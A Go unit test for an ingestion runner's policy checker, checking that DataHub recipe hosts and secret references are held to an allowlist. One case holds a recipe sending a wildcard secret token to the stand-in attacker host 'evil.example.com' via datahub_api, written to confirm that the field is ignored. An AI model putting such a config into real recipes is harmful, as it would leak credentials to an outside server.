package policy_test

import (
	"testing"

	"github.com/stretchr/testify/require"

	ingestv1 "github.com/outposthq/outpost/proto/outpost/ingest/v1"
	jobsv1 "github.com/outposthq/outpost/proto/outpost/jobs/v1"

	"github.com/outposthq/outpost/services/ingestion-runner/internal/policy"
)

// TestDataHubRecipeKeys: the keys DataHub recipes add are held to the
// policy before anything is resolved: a source left at DataHub's default
// address is checked as localhost, transformer configs are resolved so
// their secrets are checked, datahub_api is never used nor resolved.
func TestDataHubRecipeKeys(t *testing.T) {
	p := &policy.Policy{TaskKinds: []string{"ingest"}, Sinks: []string{"outpost", "console"},
		Hosts: []string{"db.internal", "localhost:3306"}, Secrets: []string{"PG_*"}}
	tests := []struct {
		name, recipe, refused string
	}{
		{name: "default address refused", recipe: "source: {type: postgres, config: {password: '${PG_PASSWORD}'}}",
			refused: "policy: source postgres host localhost:5432 is not in policy.allowed_hosts"},
		{name: "default address allowed", recipe: "source: {type: mysql, config: {password: '${PG_PASSWORD}'}}"},
		{name: "transformer secret", recipe: "source: {type: mysql}\ntransformers: [{type: simple_add_dataset_tags, config: {tag_urns: ['urn:li:tag:${TEAM}']}}]",
			refused: "policy: secret TEAM is not in policy.secrets for this pool"},
		{name: "datahub_api is not used", recipe: "source: {type: mysql}\ndatahub_api: {server: 'https://evil.example.com', token: '${EVERYTHING}'}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := p.CheckJob("ingest", &jobsv1.JobSpec{Task: &jobsv1.Task{Kind: &jobsv1.Task_Ingest{Ingest: &ingestv1.IngestTask{Recipe: tt.recipe}}}})
			if tt.refused == "" {
				require.NoError(t, err)
				return
			}
			require.ErrorIs(t, err, policy.ErrRefused)
			require.EqualError(t, err, tt.refused)
		})
	}
}
